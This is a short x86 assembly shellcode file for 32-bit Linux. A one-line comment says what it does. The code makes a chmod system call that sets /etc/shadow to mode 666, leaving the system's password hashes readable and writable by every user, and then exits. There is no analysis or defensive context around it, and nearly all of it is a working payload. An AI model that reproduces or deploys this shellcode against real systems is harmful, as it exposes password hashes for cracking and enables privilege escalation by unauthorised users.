; Linux, 32 bit: makes /etc/shadow readable for everybody.
bits 32
        cdq
        push byte 15
        pop eax
        push edx
        push dword 'adow'
        push dword '//sh'
        push dword '/etc'
        mov ebx, esp
        xor ecx, ecx
        mov cx, 666o
        int 80h
        xor eax, eax
        inc eax
        int 80h
